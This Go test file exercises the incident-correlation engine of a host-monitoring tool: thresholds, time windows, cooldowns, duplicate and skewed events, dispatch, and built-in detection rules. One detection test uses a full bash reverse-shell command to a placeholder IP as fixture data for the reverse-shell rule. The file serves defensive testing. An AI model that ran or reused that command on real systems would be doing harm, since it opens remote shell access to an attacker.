package correlation

import (
	"context"
	"errors"
	"fmt"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"go.uber.org/zap/zaptest"

	"github.com/iyulab/system-vigil/internal/event"
)

var t0 = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

func mustRule(t *testing.T, doc string) *Rule {
	t.Helper()
	r, err := ParseRule([]byte(doc), "test.yml")
	if err != nil {
		t.Fatalf("ParseRule: %v", err)
	}
	return r
}

func fsEvent(id string, at time.Duration, ctx map[string]any) event.Event {
	if ctx == nil {
		ctx = map[string]any{}
	}
	return event.Event{
		ID:        id,
		Timestamp: t0.Add(at),
		Type:      event.TypeFilesystem,
		Severity:  event.SeverityWarning,
		Source:    "watcher.filesystem",
		Message:   "files changed",
		Context:   ctx,
	}
}

const countRule = `
name: burst
match:
  types: [filesystem]
threshold: 3
window: 60s
cooldown: 300s
`

type recordingDispatcher struct {
	got []Incident
	err error
}

func (d *recordingDispatcher) Dispatch(_ context.Context, inc Incident) error {
	d.got = append(d.got, inc)
	return d.err
}

func TestEngine_FiresOnceWithinCooldown(t *testing.T) {
	eng := NewEngine([]*Rule{mustRule(t, countRule)}, zaptest.NewLogger(t), Options{})
	ctx := context.Background()

	var fired []Incident
	for i, at := range []time.Duration{0, 5 * time.Second, 10 * time.Second, 61 * time.Second, 62 * time.Second, 63 * time.Second} {
		fired = append(fired, eng.Process(ctx, fsEvent(fmt.Sprintf("e%d", i), at, nil))...)
	}
	if len(fired) != 1 {
		t.Fatalf("expected 1 incident, got %d", len(fired))
	}
	want := []string{"e0", "e1", "e2"}
	if diff := cmp.Diff(want, fired[0].ContributingEventIDs); diff != "" {
		t.Errorf("contributing ids mismatch (-want +got):\n%s", diff)
	}
	if !fired[0].CreatedAt.Equal(t0.Add(10 * time.Second)) {
		t.Errorf("CreatedAt = %v, want trigger event time", fired[0].CreatedAt)
	}
	if len(eng.Book().List()) != 1 {
		t.Errorf("book should hold 1 incident, got %d", len(eng.Book().List()))
	}
}

func TestEngine_FiresAgainAfterCooldown(t *testing.T) {
	eng := NewEngine([]*Rule{mustRule(t, countRule)}, nil, Options{})
	ctx := context.Background()

	times := []time.Duration{0, time.Second, 2 * time.Second, 400 * time.Second, 401 * time.Second, 402 * time.Second}
	var fired []Incident
	for i, at := range times {
		fired = append(fired, eng.Process(ctx, fsEvent(fmt.Sprintf("e%d", i), at, nil))...)
	}
	if len(fired) != 2 {
		t.Fatalf("expected 2 incidents, got %d", len(fired))
	}
	if diff := cmp.Diff([]string{"e3", "e4", "e5"}, fired[1].ContributingEventIDs); diff != "" {
		t.Errorf("second incident ids (-want +got):\n%s", diff)
	}
}

func TestEngine_CooldownSuppressedFiringDoesNotLatch(t *testing.T) {
	rule := mustRule(t, `
name: short
threshold: 2
window: 10s
cooldown: 30s
`)
	eng := NewEngine([]*Rule{rule}, nil, Options{})
	ctx := context.Background()

	var fired []Incident
	// fires at 1s, window empties, condition holds again at 21s inside the
	// cooldown and keeps holding until 31s, past it.
	for i, at := range []time.Duration{0, 1, 20, 21, 25, 29, 31} {
		fired = append(fired, eng.Process(ctx, fsEvent(fmt.Sprintf("e%d", i), at*time.Second, nil))...)
	}
	if len(fired) != 2 {
		t.Fatalf("expected 2 incidents, got %d", len(fired))
	}
	if !fired[1].CreatedAt.Equal(t0.Add(31 * time.Second)) {
		t.Errorf("second incident at %v, want 31s", fired[1].CreatedAt.Sub(t0))
	}
}

func TestEngine_DuplicateEventIgnored(t *testing.T) {
	rule := mustRule(t, `
name: pair
threshold: 2
window: 1m
`)
	eng := NewEngine([]*Rule{rule}, nil, Options{})
	ctx := context.Background()

	ev := fsEvent("same", 0, nil)
	if got := eng.Process(ctx, ev); len(got) != 0 {
		t.Fatalf("first delivery fired %d incidents", len(got))
	}
	if got := eng.Process(ctx, ev); len(got) != 0 {
		t.Errorf("redelivered event must not count, fired %d", len(got))
	}
	if got := eng.Process(ctx, fsEvent("other", time.Second, nil)); len(got) != 1 {
		t.Errorf("expected 1 incident after distinct second event, got %d", len(got))
	}
}

func TestEngine_LateEventOutsideWindowSkipped(t *testing.T) {
	rule := mustRule(t, `
name: pair
threshold: 2
window: 10s
`)
	eng := NewEngine([]*Rule{rule}, nil, Options{})
	ctx := context.Background()

	eng.Process(ctx, fsEvent("now", time.Minute, nil))
	if got := eng.Process(ctx, fsEvent("stale", 0, nil)); len(got) != 0 {
		t.Errorf("stale event fired %d incidents", len(got))
	}
	if got := eng.Process(ctx, fsEvent("late-but-inside", 55*time.Second, nil)); len(got) != 1 {
		t.Errorf("out-of-order event inside the window should count, fired %d", len(got))
	}
}

func TestEngine_FutureTimestampDoesNotStallRule(t *testing.T) {
	clock := func() time.Time { return t0.Add(time.Minute) }
	eng := NewEngine([]*Rule{mustRule(t, countRule)}, zaptest.NewLogger(t), Options{Now: clock})
	ctx := context.Background()

	skewed := fsEvent("skewed", 9*time.Hour, nil)
	skewed.Source = "auditor.shell"
	if got := eng.Process(ctx, skewed); len(got) != 0 {
		t.Fatalf("skewed event fired %d incidents", len(got))
	}

	var fired []Incident
	for i := 0; i < 10; i++ {
		fired = append(fired, eng.Process(ctx, fsEvent(fmt.Sprintf("e%d", i), time.Duration(i)*time.Second, nil))...)
	}
	if len(fired) != 1 {
		t.Fatalf("incidents = %d, want 1", len(fired))
	}
	if diff := cmp.Diff([]string{"e0", "e1", "e2"}, fired[0].ContributingEventIDs); diff != "" {
		t.Errorf("contributing ids (-want +got):\n%s", diff)
	}
}

func TestEngine_SmallFutureSkewCountsWithoutAdvancingClock(t *testing.T) {
	rule := mustRule(t, `
name: pair
threshold: 2
window: 10s
`)
	clock := func() time.Time { return t0 }
	eng := NewEngine([]*Rule{rule}, nil, Options{Now: clock, MaxFutureSkew: time.Minute})
	ctx := context.Background()

	eng.Process(ctx, fsEvent("ahead", 30*time.Second, nil))
	got := eng.Process(ctx, fsEvent("on-time", 0, nil))
	if len(got) != 1 {
		t.Fatalf("incidents = %d, want 1", len(got))
	}
	if diff := cmp.Diff([]string{"on-time", "ahead"}, got[0].ContributingEventIDs); diff != "" {
		t.Errorf("contributing ids (-want +got):\n%s", diff)
	}
}

func TestEngine_WeightFieldSumsContext(t *testing.T) {
	rule := mustRule(t, `
name: mass
match:
  types: [filesystem]
threshold: 3
weight_field: file_count
window: 30s
`)
	eng := NewEngine([]*Rule{rule}, nil, Options{})

	got := eng.Process(context.Background(), fsEvent("big", 0, map[string]any{"file_count": float64(5)}))
	if len(got) != 1 {
		t.Fatalf("expected 1 incident, got %d", len(got))
	}
	if got[0].Summary != "mass: 5 file_count within 30s (threshold 3)" {
		t.Errorf("Summary = %q", got[0].Summary)
	}
}

func TestEngine_RulesFireInLoadOrder(t *testing.T) {
	a := mustRule(t, "name: first\nthreshold: 1\nwindow: 1m\n")
	b := mustRule(t, "name: second\nthreshold: 1\nwindow: 1m\nseverity: critical\n")
	eng := NewEngine([]*Rule{a, b}, nil, Options{})

	got := eng.Process(context.Background(), fsEvent("e", 0, nil))
	if len(got) != 2 {
		t.Fatalf("expected 2 incidents, got %d", len(got))
	}
	if got[0].RuleName != "first" || got[1].RuleName != "second" {
		t.Errorf("order = %s, %s", got[0].RuleName, got[1].RuleName)
	}
	if got[0].Severity != event.SeverityWarning || got[1].Severity != event.SeverityCritical {
		t.Errorf("severities = %s, %s", got[0].Severity, got[1].Severity)
	}
	if got[0].ID == got[1].ID {
		t.Error("incident ids must be unique")
	}
}

func TestEngine_BuiltinMassModification(t *testing.T) {
	rules, problems := LoadRules(nil, BuiltinRules())
	if len(problems) != 0 {
		t.Fatalf("builtin rules: %v", problems)
	}
	eng := NewEngine(rules, nil, Options{})

	ev := fsEvent("burst-1", 0, map[string]any{
		"directory":  "/home/user/docs",
		"file_count": float64(5),
		"files":      []any{"a", "b", "c", "d", "e"},
	})
	got := eng.Process(context.Background(), ev)
	if len(got) != 1 {
		t.Fatalf("expected 1 incident, got %d", len(got))
	}
	inc := got[0]
	if inc.RuleName != "mass-file-modification" {
		t.Errorf("RuleName = %q", inc.RuleName)
	}
	if inc.Status != StatusOpen {
		t.Errorf("Status = %q, want open", inc.Status)
	}
	if diff := cmp.Diff([]string{"burst-1"}, inc.ContributingEventIDs); diff != "" {
		t.Errorf("contributing ids (-want +got):\n%s", diff)
	}
}

func TestEngine_BuiltinDetections(t *testing.T) {
	rules, _ := LoadRules(nil, BuiltinRules())
	eng := NewEngine(rules, nil, Options{})
	ctx := context.Background()

	shell := event.Event{
		ID: "p1", Timestamp: t0, Type: event.TypeProcess, Severity: event.SeverityCritical,
		Source: "watcher.process", Message: "suspicious process",
		Context: map[string]any{
			"pid":     float64(4242),
			"reason":  "suspicious_pattern",
			"command": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
		},
	}
	got := eng.Process(ctx, shell)
	if len(got) != 1 || got[0].RuleName != "reverse-shell" {
		t.Fatalf("expected reverse-shell incident, got %+v", got)
	}

	persist := fsEvent("f1", time.Second, map[string]any{"path": "/etc/crontab", "path_class": "sensitive"})
	got = eng.Process(ctx, persist)
	if len(got) != 1 || got[0].RuleName != "persistence-file-changed" {
		t.Fatalf("expected persistence-file-changed incident, got %+v", got)
	}

	plain := fsEvent("f2", 2*time.Second, map[string]any{"path": "/tmp/x", "path_class": "executable"})
	if got = eng.Process(ctx, plain); len(got) != 0 {
		t.Errorf("executable change should not match persistence rule, got %+v", got)
	}
}

func TestEngine_DispatchMarksIncident(t *testing.T) {
	rule := mustRule(t, "name: one\nthreshold: 1\nwindow: 1m\nactions: [notify]\n")
	d := &recordingDispatcher{}
	eng := NewEngine([]*Rule{rule}, nil, Options{Dispatcher: d})

	got := eng.Process(context.Background(), fsEvent("e", 0, nil))
	if len(got) != 1 {
		t.Fatalf("expected 1 incident, got %d", len(got))
	}
	if got[0].Status != StatusDispatched {
		t.Errorf("Status = %q, want dispatched", got[0].Status)
	}
	if len(d.got) != 1 || d.got[0].ID != got[0].ID {
		t.Errorf("dispatcher saw %+v", d.got)
	}
	stored, err := eng.Book().Get(got[0].ID)
	if err != nil {
		t.Fatalf("Get: %v", err)
	}
	if stored.Status != StatusDispatched {
		t.Errorf("stored Status = %q", stored.Status)
	}
}

func TestEngine_DispatchFailureLeavesIncidentOpen(t *testing.T) {
	rule := mustRule(t, "name: one\nthreshold: 1\nwindow: 1m\n")
	d := &recordingDispatcher{err: errors.New("sink down")}
	eng := NewEngine([]*Rule{rule}, nil, Options{Dispatcher: d})

	got := eng.Process(context.Background(), fsEvent("e", 0, nil))
	if len(got) != 1 || got[0].Status != StatusOpen {
		t.Fatalf("expected one open incident, got %+v", got)
	}
}

type sliceStream struct {
	events []event.Event
}

func (s *sliceStream) Next(ctx context.Context) (event.Event, error) {
	if len(s.events) == 0 {
		<-ctx.Done()
		return event.Event{}, ctx.Err()
	}
	ev := s.events[0]
	s.events = s.events[1:]
	return ev, nil
}

func TestEngine_RunConsumesStream(t *testing.T) {
	rule := mustRule(t, "name: one\nthreshold: 2\nwindow: 1m\n")
	eng := NewEngine([]*Rule{rule}, nil, Options{})
	stream := &sliceStream{events: []event.Event{fsEvent("a", 0, nil), fsEvent("b", time.Second, nil)}}

	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- eng.Run(ctx, stream) }()

	deadline := time.After(2 * time.Second)
	for len(eng.Book().List()) == 0 {
		select {
		case <-deadline:
			t.Fatal("no incident raised")
		case <-time.After(5 * time.Millisecond):
		}
	}
	cancel()
	if err := <-done; err != nil {
		t.Errorf("Run returned %v", err)
	}
}

type failingStream struct{}

func (failingStream) Next(context.Context) (event.Event, error) {
	return event.Event{}, errors.New("connection reset")
}

func TestEngine_RunReportsStreamError(t *testing.T) {
	eng := NewEngine(nil, nil, Options{})
	if err := eng.Run(context.Background(), failingStream{}); err == nil {
		t.Error("expected stream error")
	}
}

func TestSeenSet_ForgetsOldest(t *testing.T) {
	s := newSeenSet(2)
	if !s.Add("a") || !s.Add("b") {
		t.Fatal("fresh ids should be new")
	}
	if s.Add("a") {
		t.Error("a should still be remembered")
	}
	s.Add("c")
	if s.Len() != 2 {
		t.Errorf("Len = %d, want 2", s.Len())
	}
	if !s.Add("a") {
		t.Error("a should have been forgotten after c")
	}
}
